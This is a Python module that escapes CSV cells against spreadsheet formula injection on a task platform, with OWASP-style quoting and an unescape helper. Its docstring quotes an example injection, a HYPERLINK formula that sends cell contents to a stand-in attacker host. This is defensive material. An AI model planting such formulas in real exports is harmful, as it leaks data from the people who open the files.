"""Every CSV the platform writes goes through `csv_writer`, so no cell can run as a formula.

A spreadsheet treats a cell that starts with = + - @ (or a tab or carriage return before one of
them) as a formula: `=HYPERLINK("https://evil.example/?"&A1, "Click")` in a bonus message or an
answer would run on the requester's or worker's computer when they open the download. Following
OWASP's rule, such a cell gets a leading single quote, which spreadsheets read as "this is
text". Two kinds of cell are left as they are:

- numbers the platform writes (ints, Decimals, floats), and text that is exactly a number
  such as "-0.050000" or "-1.5e+06" — a negative amount or a negative answer must stay a
  number a spreadsheet can add up, and a number cannot be a formula;
- text that starts with anything else.

The quote is visible to a program that reads the CSV back: "'=1+1" was the text "=1+1". So that
reading back is exact, text made of quotes and then a formula start gets one more quote too
("'=x" is written "''=x"), and `unescape_cell` takes off one quote wherever quotes lead to a
formula start: the aggregation command uses it on our answers export."""

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, Protocol

# OWASP's list, plus a line feed (a cell may begin with one) and the full-width = + - @ that
# some spreadsheets fold into their ASCII twins.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


class _Writable(Protocol):
    def write(self, value: str, /) -> Any: ...


def safe_cell(value: Any) -> Any:
    """The value a CSV cell may hold without a spreadsheet running it."""
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    text = str(value)
    if text.lstrip("'").startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def unescape_cell(text: str) -> str:
    """The text `safe_cell` was given, from the cell it wrote."""
    if text.startswith("'") and text.lstrip("'").startswith(FORMULA_STARTS):
        return text[1:]
    return text


class SafeWriter:
    """csv.writer's writerow/writerows, with every cell passed through `safe_cell`."""

    def __init__(self, out: _Writable, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: _Writable, **kwargs: Any) -> SafeWriter:
    """The one way to write a CSV file or download (a test checks no other csv.writer exists)."""
    return SafeWriter(out, **kwargs)
